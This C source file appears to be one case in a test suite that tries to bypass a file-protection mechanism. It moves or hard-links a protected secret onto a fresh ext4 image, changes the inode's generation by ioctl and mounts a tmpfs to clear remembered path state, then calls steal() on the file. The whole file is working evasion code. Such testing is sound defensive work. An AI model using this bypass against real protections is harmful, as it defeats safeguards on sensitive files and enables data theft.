// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Takes the secret's name away and sets the inode's generation by ioctl, so that what is noted of the inode is about
 * another.
 */
#include "attack.h"
#include <linux/fs.h>
#include <sys/ioctl.h>

#define MNT	OUT "/mnt"
#define COVERED MNT "/covered"

/* Where metadata have checksums the generation cannot be set; Debian's own installer makes some without. */
static void mount_image(void)
{
	char *argv[] = { (char *)"/sbin/mkfs.ext4", (char *)"-q",	  (char *)"-O",
			 (char *)"^metadata_csum",  (char *)OUT "/image", NULL };
	int fd = (int)need(open(OUT "/image", O_RDWR | O_CREAT | O_CLOEXEC, 0600), OUT "/image");

	need(ftruncate(fd, 16 << 20), "ftruncate");
	close(fd);
	if (run(argv) != 0)
		unavailable("mkfs.ext4");
	make_folder(MNT);
	need(mount(loop_device(OUT "/image"), MNT, "ext4", 0, NULL), "mount");
	settle();
}

/* By a descriptor for writing: no rule forbids that. */
int main(int argc, char **argv)
{
	long version = 0;
	int fd;

	mount_image();
	make_folder(COVERED);
	copy_secret(COVERED "/secret");
	if (strcmp(argv[argc - 1], "link") == 0)
		step(link(COVERED "/secret", MNT "/name"), "link");
	else
		step(rename(COVERED "/secret", MNT "/name"), "rename");
	fd = (int)need(open(MNT "/name", O_WRONLY), MNT "/name");
	need(ioctl(fd, FS_IOC_GETVERSION, &version), "FS_IOC_GETVERSION");
	version++;
	step(ioctl(fd, FS_IOC_SETVERSION, &version), "FS_IOC_SETVERSION");
	close(fd);
	/* What was remembered of the place goes as well, whenever something is mounted anywhere. */
	make_folder(OUT "/empty");
	need(mount("tmpfs", OUT "/empty", "tmpfs", 0, NULL), "mount");
	steal(MNT "/name");
}
